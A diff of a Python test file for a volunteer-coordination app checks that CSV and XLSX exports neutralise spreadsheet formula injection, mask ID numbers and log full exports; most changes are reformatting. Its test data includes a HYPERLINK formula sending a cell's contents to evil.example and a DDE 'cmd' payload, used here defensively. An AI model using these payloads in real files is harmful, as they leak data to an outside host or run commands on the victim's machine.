@@ -15,7 +15,7 @@ from coordinator.events.models import CONFIRMED, Signup, VolunteerProfile
 from coordinator.exports.files import csv_cell, formula_like, mask_id_number, to_csv, to_xlsx
 from coordinator.exports.models import FullExport
 from coordinator.extensions import db
-from coordinator.ui import utcnow
+from coordinator.i18n import utcnow
 from tests.conftest import field_errors
 from tests.events.conftest import make_event
 
@@ -24,8 +24,21 @@ pytestmark = pytest.mark.usefixtures("english")
 ID_NUMBER = "110108199001011234"
 MASKED = "1101**********1234"
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&C2,"点击查看")'
-FORMULAS = [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\n=1",
-            "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝cmd|' /C calc'!A0"]
+FORMULAS = [
+    HOSTILE,
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    " ＝cmd|' /C calc'!A0",
+]
 PLAIN = ["刘芳", "a=b", "13800000007", "BJ-7", "", "1-2单元"]
 
 
@@ -75,13 +88,27 @@ def test_id_numbers_are_masked():
 
 def _recorded(staff, volunteer, **kw):
     event = make_event(organiser=staff, starts_in=timedelta(days=-1), **kw)
-    db.session.add(VolunteerProfile(user_id=volunteer.id, id_type="resident_id",
-                                    id_number=ID_NUMBER, volunteer_number="@BJ-7"))
-    db.session.add(Signup(event_id=event.id, role_id=event.roles[0].id, user_id=volunteer.id,
-                          status=CONFIRMED, check_in_at=event.starts_at,
-                          check_out_at=event.starts_at + timedelta(hours=2, minutes=30),
-                          hours_minutes=150, hours_confirmed_by_id=staff.id,
-                          hours_confirmed_at=utcnow()))
+    db.session.add(
+        VolunteerProfile(
+            user_id=volunteer.id,
+            id_type="resident_id",
+            id_number=ID_NUMBER,
+            volunteer_number="@BJ-7",
+        )
+    )
+    db.session.add(
+        Signup(
+            event_id=event.id,
+            role_id=event.roles[0].id,
+            user_id=volunteer.id,
+            status=CONFIRMED,
+            check_in_at=event.starts_at,
+            check_out_at=event.starts_at + timedelta(hours=2, minutes=30),
+            hours_minutes=150,
+            hours_confirmed_by_id=staff.id,
+            hours_confirmed_at=utcnow(),
+        )
+    )
     db.session.commit()
     return event
 
@@ -89,21 +116,26 @@ def _recorded(staff, volunteer, **kw):
 def test_a_name_from_the_public_join_form_is_no_formula_in_either_file(client, auth, make):
     staff = make.user("staff")
     make.commit()
-    joined = client.post("/volunteer/join", data={
-        "name": HOSTILE[:40], "phone": "13800000077", "password": "longenough",
-        "confirm": "longenough", "community_id": staff.community_id})
+    joined = client.post(
+        "/volunteer/join",
+        data={
+            "name": HOSTILE[:40],
+            "phone": "13800000077",
+            "password": "longenough",
+            "confirm": "longenough",
+            "community_id": staff.community_id,
+        },
+    )
     assert joined.status_code == 302
     client.post("/logout")
     from coordinator.auth.models import User
 
     volunteer = db.session.scalar(select(User).filter_by(phone="13800000077"))
-    db.session.delete(db.session.scalar(select(VolunteerProfile).filter_by(
-        user_id=volunteer.id)))
+    db.session.delete(db.session.scalar(select(VolunteerProfile).filter_by(user_id=volunteer.id)))
     _recorded(staff, volunteer, title="-清理车棚")
     auth.login(staff)
 
-    rows = list(csv.reader(io.StringIO(
-        client.get("/events/records.csv").data.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(client.get("/events/records.csv").data.decode("utf-8-sig"))))
     assert rows[1][0] == "'" + HOSTILE[:40]
     assert rows[1][3] == "'@BJ-7" and rows[1][4] == "'-清理车棚"
     assert rows[1][10] == "2.5"
@@ -145,8 +177,9 @@ def test_admin_gets_full_numbers_only_with_a_purpose_and_it_is_logged(client, au
     url = f"/events/records/full?community={staff.community_id}&date_from=2000-01-01"
     missing = client.post(url, data={"purpose": "  ", "fmt": "csv"})
     assert missing.status_code == 422
-    assert ("Say for what official purpose you need the full ID numbers."
-            in field_errors(missing.get_data(as_text=True)))
+    assert "Say for what official purpose you need the full ID numbers." in field_errors(
+        missing.get_data(as_text=True)
+    )
     assert db.session.scalar(select(FullExport.id)) is None
 
     purpose = "向区民政局报送2026年志愿服务时长"
@@ -158,9 +191,15 @@ def test_admin_gets_full_numbers_only_with_a_purpose_and_it_is_logged(client, au
 
     entry = db.session.scalars(select(FullExport)).one()
     assert (entry.user_id, entry.purpose, entry.export, entry.rows) == (
-        admin.id, purpose, "service_records", 1)
-    assert json.loads(entry.filters) == {"community_id": staff.community_id,
-                                         "date_from": "2000-01-01"}
+        admin.id,
+        purpose,
+        "service_records",
+        1,
+    )
+    assert json.loads(entry.filters) == {
+        "community_id": staff.community_id,
+        "date_from": "2000-01-01",
+    }
     assert abs(entry.created_at - utcnow()) < timedelta(minutes=1)
 
     log = client.get("/exports/log").get_data(as_text=True)
